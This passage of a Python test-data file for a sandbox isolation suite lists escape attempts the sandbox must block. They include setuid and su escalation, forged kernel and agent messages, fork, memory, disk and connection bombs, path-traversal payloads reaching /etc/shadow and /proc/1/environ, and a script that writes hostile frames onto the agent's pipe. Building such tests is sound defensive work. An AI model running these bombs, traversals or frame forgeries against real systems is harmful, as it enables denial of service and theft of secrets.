    c_all_fail([("chroot", b"/tmp/cr"), ("reboot", 0x4321FEDC), ("ioperm", 0x60, 1, 1),
                ("syscall", 246, 0, 0, None, 0)])  # POWER_OFF, kexec_load
'''),
    ("setuid-binaries-do-not-elevate", PRIV, r'''
p = subprocess.run(["sh", "-c", "cp /usr/bin/id /workspace/sid && chmod 6755 /workspace/sid && /workspace/sid -u; "
                    "su -c 'id -u' root </dev/null"], capture_output=True, text=True, timeout=60)
verdict("\n0\n" not in "\n" + p.stdout and not p.stdout.startswith("0"), (p.stdout, p.stderr[-100:]))
'''),

    # -- the agent's stream and forged frames ----------------------------------------------------------
    ("write-the-agents-stream-fds", AGENT,
     'all_fail([(write, f"/proc/1/fd/{n}", b"\\0\\0\\0\\2\\0\\0\\0\\0{}") for n in range(0, 8)])'),
    ("write-the-serial-ports", AGENT, r'''
ports = glob.glob("/dev/vport*") + glob.glob("/dev/virtio-ports/*") + glob.glob("/dev/hvc*") + glob.glob("/dev/ttyS*")
all_fail([(write, p, b"\0\0\0\x02\0\0\0\0{}") for p in ports] or [(write, "/dev/vport0p1")])
'''),
]

# The kernel's own sockets are the cell's: what it forges there reaches the agent (test_escape.py runs
# these through the kernel, then checks that nothing else changed).
FORGED = r'''
import uuid, json
k = get_ipython().kernel
D = b"<IDS|MSG>"
hdr = lambda t, mid=None: json.dumps({"msg_id": mid or uuid.uuid4().hex, "msg_type": t, "session": "s",
                                     "username": "u", "date": "", "version": "5.3"}).encode()
own = json.dumps({"msg_id": "sandgate-agent-" + uuid.uuid4().hex}).encode()
forged = [
    [D, b"", hdr("status"), b"{}", b"{}", b'{"execution_state": "dead"}'],          # the kernel "died"
    [D, b"", hdr("kernel_info_reply"), own, b"{}", b'{"status": "ok"}'],              # a reply to the agent
    [D, b"", hdr("shutdown_reply"), b"{}", b"{}", b'{"restart": false}'],
    [D, b"", hdr("execute_reply"), b'{"msg_id": "$VICTIM"}', b"{}", b'{"status": "ok"}'],
    [D, b"", hdr("stream"), b"{}", b"{}", json.dumps({"name": "stdout", "text": "x" * (8 << 20)}).encode()],
    [D, b"", hdr("display_data"), b"{}", b"{}", b"{}"] + [b""] * 200000,            # a frame header past 1 MiB
]
for f in forged:
    k.iopub_socket.send_multipart(f)
ident = k._parent_ident["shell"]
for f in forged[:4]:
    k.shell_stream.send_multipart(list(ident) + f)
print("BLOCKED sent", len(forged), "forged messages")
'''

# -- fork, memory, thread, disk and output bombs ----------------------------------------------------------
# Run in a third sandbox of their own (low limits under gVisor), each bounded by its own cap and deadline
# as well as by the sandbox's limits; test_escape.py checks the second sandbox while each one runs.
BOMB = "fork, memory, thread, disk and output bombs"
BOMBS = [
    ("output-bomb", "import sys\nline = 'x' * (1 << 20) + '\\n'\nfor _ in range(40):\n    sys.stdout.write(line)\n"),
    ("fd-bomb", r'''
fds, err = [], None
while len(fds) < 100000:
    try:
        fds.append(os.open("/dev/null", os.O_RDONLY))
    except OSError as e:
        err = e
        break
for fd in fds:
    os.close(fd)
verdict(err is not None, f"{len(fds)} descriptors, then {err}")
'''),
    ("thread-bomb", r'''
import threading, time
stop, threads, err, deadline = threading.Event(), [], None, time.monotonic() + 60
while len(threads) < 5000 and time.monotonic() < deadline:
    t = threading.Thread(target=stop.wait, daemon=True)
    try:
        t.start()
    except Exception as e:
        err = e
        break
    threads.append(t)
stop.set()
for t in threads:
    t.join()
verdict(True, f"{len(threads)} threads, then {err}")
'''),
    ("fork-bomb", r'''
import time
r, w = os.pipe()
pids, err, deadline = [], None, time.monotonic() + 60
while len(pids) < 1000 and time.monotonic() < deadline:
    try:
        pid = os.fork()
    except OSError as e:
        err = e
        break
    if pid == 0:
        os.close(w)
        os.read(r, 1)  # until the parent closes its end
        os._exit(0)
    pids.append(pid)
os.close(w)
for pid in pids:
    os.waitpid(pid, 0)
os.close(r)
verdict(True, f"{len(pids)} children, then {err}")
'''),
    ("disk-bomb", r'''
import time
chunk, n, err, deadline = b"\xa5" * (1 << 20), 0, None, time.monotonic() + 240
with open("/workspace/bomb.bin", "wb") as f:
    while n < 4096 and time.monotonic() < deadline:
        try:
            f.write(chunk)
            f.flush()
        except OSError as e:
            err = e
            break
        n += 1
    try:
        os.fsync(f.fileno())
    except OSError as e:
        err = err or e
try:
    f.close()
except OSError:
    pass
os.unlink("/workspace/bomb.bin")
verdict(err is not None and err.errno in (errno.ENOSPC, errno.EDQUOT), f"{n} MiB, then {err}")
'''),
    ("cpu-bomb", r'''
import time
code = "import time\nd = time.monotonic() + 20\nwhile time.monotonic() < d: pass\n"
procs = [subprocess.Popen([sys.executable, "-c", code]) for _ in range(8)]
for p in procs:
    p.wait()
verdict(True, "8 busy processes for 20 s")
'''),
    ("egress-connection-bomb", r'''
conns, err = [], None
while len(conns) < 400:
    try:
        conns.append(socket.create_connection(PROXY, timeout=10))
    except OSError as e:
        err = e
        break
alive = 0
for c in conns:
    try:
        c.sendall(b"CONNECT secure.test:$HTTPS HTTP/1.1\r\nHost: secure.test:$HTTPS\r\n\r\n")
    except OSError:
        continue
for c in conns:
    c.close()
a = connect("secure.test:$HTTPS")  # the sandbox's own egress works again once they are gone
verdict(a.startswith("HTTP/1.1 200"), f"{len(conns)} connections ({err}); after: {a[:30]}")
'''),
    ("tmpfs-bomb", r'''
chunk, n, err = b"\x5a" * (1 << 20), 0, None
where = "/dev/shm" if os.path.isdir("/dev/shm") else "/tmp"  # a VM has no /dev/shm: its /tmp is memory too
try:
    with open(f"{where}/bomb", "wb") as f:
        while n < 8192:
            f.write(chunk)
            n += 1
except (OSError, MemoryError) as e:
    err = e
try:
    os.unlink(f"{where}/bomb")
except OSError:
    pass
fs = [l for l in open("/proc/mounts").read().splitlines() if l.split()[1] == where]
verdict(n > 0, f"{n} MiB in {where} ({fs}), then {err}")
'''),
    ("memory-bomb", r'''
blocks, err = [], None
try:
    while len(blocks) < 256:  # 16 GiB at most
        blocks.append(bytearray(64 << 20))
except MemoryError as e:
    err = e
n = len(blocks)
blocks.clear()
verdict(True, f"{n * 64} MiB, then {err!r}")
'''),
]

# -- symlinks and `..` through the files API -----------------------------------------------------------------
# (id, method, path): made by the test against the attacking sandbox, whose workspace holds these links
# (FILES_SETUP); each must be refused (a 4xx), and what it aimed at must be unchanged.
FILES_API = "symlinks and `..` through the files API"
FILES_SETUP = r'''
links = {"f-victim": "$HOME/workspaces/$VICTIM/$VICTIM_FILE", "f-dotdot": "../$VICTIM/$VICTIM_FILE",
         "f-environ": "/proc/1/environ", "f-proc": "/proc/1", "f-tmp": "/tmp", "f-opt": "/opt/sandgate",
         "f-shadow": "/etc/shadow", "f-root": "/"}
for name, target in links.items():
    p = "/workspace/" + name
    if os.path.lexists(p):
        os.unlink(p)
    os.symlink(target, p)
print("BLOCKED links made")
'''
FILES = [
    ("get-dotdot-to-the-victim", "GET", "../$VICTIM/$VICTIM_FILE"),
    ("get-encoded-dotdot-to-etc", "GET", "%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("get-encoded-slashes", "GET", "..%2f..%2f..%2fetc%2fpasswd"),
    ("get-absolute-path", "GET", "/etc/passwd"),
    ("get-symlink-to-the-victims-host-path", "GET", "f-victim"),
    ("get-symlink-dotdot-to-the-victim", "GET", "f-dotdot"),
    ("get-symlink-to-agent-environ", "GET", "f-environ"),
    ("get-through-a-directory-symlink", "GET", "f-proc/environ"),
    ("list-a-directory-symlink", "GET", "f-proc/"),
    ("list-the-root-by-symlink", "GET", "f-root/"),
    ("get-root-only-file-by-symlink", "GET", "f-shadow"),
    ("put-through-a-directory-symlink", "PUT", "f-tmp/planted-$MARKER"),
    ("put-over-a-symlink-to-the-victim", "PUT", "f-victim"),
    ("put-dotdot-out-of-the-workspace", "PUT", "../planted-$MARKER"),
    ("put-dotdot-into-the-victim", "PUT", "../$VICTIM/$VICTIM_FILE"),
    ("delete-through-a-directory-symlink", "DELETE", "f-opt/sandgate_agent"),
    ("delete-dotdot", "DELETE", "../$VICTIM"),
    ("get-nul-byte", "GET", "f-victim%00.txt"),
]

# -- the agent's stream and forged frames (run by test_escape.py, not as ATTEMPTS) ---------------------------
FORGED_ATTEMPTS = [("forged-kernel-messages-to-the-agent", AGENT)]

# Attempts that succeeded, per driver: the test asserts the safe behaviour and is marked
# xfail(strict=True) with this reason, so it fails once the finding is fixed (and must move to FIXED).
FINDINGS = {
}
# Found and fixed on this branch: (id, driver) -> what was wrong and the fix.
FIXED = {
    ("get-nul-byte", "gvisor"): "a NUL in a files API path was a 500 (the agent's ValueError); now a 400",
    ("get-nul-byte", "qemu"): "a NUL in a files API path was a 500 (the agent's ValueError); now a 400",
    ("unshare-user-namespace", "gvisor"):
        "runsc 20221219 let the sandbox user create a user namespace; now unshare, setns and clone with a "
        "CLONE_NEW* flag are EPERM for every process, by an OCI seccomp filter the Sentry enforces (--oci-seccomp)",
    ("agent-process-info", "qemu"):
        "a VM's /proc showed the agent's stat, status, cmdline, comm, mounts and more to the sandbox user "
        "(environ, maps and auxv needed ptrace access there); now the agent remounts /proc with hidepid=2",
    ("agent-process-info", "gvisor"):
        "runsc's /proc/<pid>/ files are mode 0444 with no ptrace-access check and no hidepid: the sandbox user read "
        "the agent's (root, pid 1) environ, maps, smaps, auxv, stat, status, cmdline, fdinfo/* and the same for "
        "each of its threads; now the kernel and commands run in a PID namespace of their own whose /proc does "
        "not have the agent (its init is a fresh reaper process, not a copy of the agent)",
    ("unshare-mount-cgroup-namespaces", "gvisor"):
        "runsc 20221219 let a process without capabilities unshare(CLONE_NEWNS) and unshare(CLONE_NEWCGROUP); now "
        "refused by the same seccomp filter",
}

CATEGORIES = [HOST, LOOP, SOCK, PROXY, FILES_API, BOMB, AGENT, PRIV]


def all_attempts():
    """(id, category) of every attempt the suite makes per driver."""
    return ([(a[0], a[1]) for a in ATTEMPTS] + [(b[0], BOMB) for b in BOMBS] + [(f[0], FILES_API) for f in FILES]
            + FORGED_ATTEMPTS + ROOT_GUEST_ATTEMPTS)

# A guest that took over root inside: `runsc exec` as root writes frames straight onto the agent's stream
# (gVisor only: a VM gives the host no way in as root). Valid but hostile frames first, then a bad one.
ROOT_GUEST_ATTEMPTS = [("root-guest-hostile-frames", AGENT), ("root-guest-malformed-frame", AGENT)]
NOT_ON = {("root-guest-hostile-frames", "qemu"): "no way in as root", ("root-guest-malformed-frame", "qemu"): "no way in as root"}
FORGE_FRAMES = r'''
import ctypes, json, os, struct, sys
proc = "/proc"
with open("/proc/1/cmdline", "rb") as f:
    if b"sandgate_agent.agent" not in f.read():
        # /proc is the kernel's PID namespace, which has no agent: this process (runsc exec's, root in
        # the sandbox's first namespace) mounts a proc of its own namespace, where the agent is pid 1.
        proc = "/tmp/.root-guest-proc"
        os.makedirs(proc, exist_ok=True)
        libc = ctypes.CDLL(None, use_errno=True)
        assert libc.mount(b"proc", proc.encode(), b"proc", 0, None) == 0, os.strerror(ctypes.get_errno())
links = {n: os.readlink(f"{proc}/1/fd/{n}") for n in os.listdir(f"{proc}/1/fd")}
# The agent's frames go out on the duplicate of its first stdout: the host pipe that is neither its stdin
# (fd 0) nor its stderr (fd 2).
out = [n for n, l in links.items() if l.startswith("host:") and l not in (links["0"], links["2"])]
assert len(out) == 1, links
def frame(header, payload=b""):
    h = json.dumps(header).encode()
    return struct.pack(">II", len(h), len(payload)) + h + payload
fd = os.open(f"{proc}/1/fd/{out[0]}", os.O_WRONLY)
if proc != "/proc":
    libc.umount2(proc.encode(), 2)  # MNT_DETACH: the descriptor stays; the mount is seen by every process here
if sys.argv[1] == "hostile":
    frames = [frame({"type": "response", "id": 987654321, "ok": True, "result": {"pid": 1}}),
              frame({"type": "response", "id": 1, "ok": False, "error": "PermissionError: forged"}),
              frame({"type": "tunnel", "conn": 7, "op": "open"}),
              frame({"type": "tunnel", "conn": 8, "op": "data"}, b"CONNECT 127.0.0.1:1 HTTP/1.1\r\n\r\n"),
              frame({"type": "event", "event": "dropped", "data": {"frames": 10 ** 12, "bytes": -1}})]
else:
    frames = [struct.pack(">II", 0xFFFFFFF0, 0) + b"{"]
for f in frames:
    os.write(fd, f)  # each under PIPE_BUF: not interleaved with the agent's own writes
print("BLOCKED wrote", len(frames))
'''
